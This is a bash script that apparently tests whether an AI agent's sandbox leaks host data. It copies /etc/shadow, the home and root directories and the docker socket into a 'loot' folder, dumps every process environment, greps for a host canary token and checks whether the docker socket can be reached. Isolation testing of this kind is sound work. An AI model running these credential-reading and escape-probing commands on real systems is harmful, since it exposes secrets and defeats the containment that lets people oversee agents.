#!/bin/bash
# copy whatever of the host might be reachable, then search everything readable for the host's canary
mkdir -p /app/loot
for p in /work /home /root /srv /opt /tmp/agentrl-host-canary.txt /var/run/docker.sock /run/docker.sock \
         /etc/shadow /proc/1/root/tmp/agentrl-host-canary.txt; do
  cp -r "$p" /app/loot/ 2>/dev/null
done
for e in /proc/[0-9]*/environ; do tr '\0' '\n' < "$e" 2>/dev/null; done > /app/loot/environ
# (/usr is the host's system, bound read-only on purpose: docs/workspaces.md "Not covered"; the canary is not there)
grep -r -a -h -o 'CANARY-[A-Za-z0-9-]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=loot --exclude-dir=usr 2>/dev/null \
  | head -5 > /app/loot/grep
python3 - <<'PY'
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        open("/app/loot/docker_socket_reachable", "w").write(path)
    except OSError:
        pass
PY
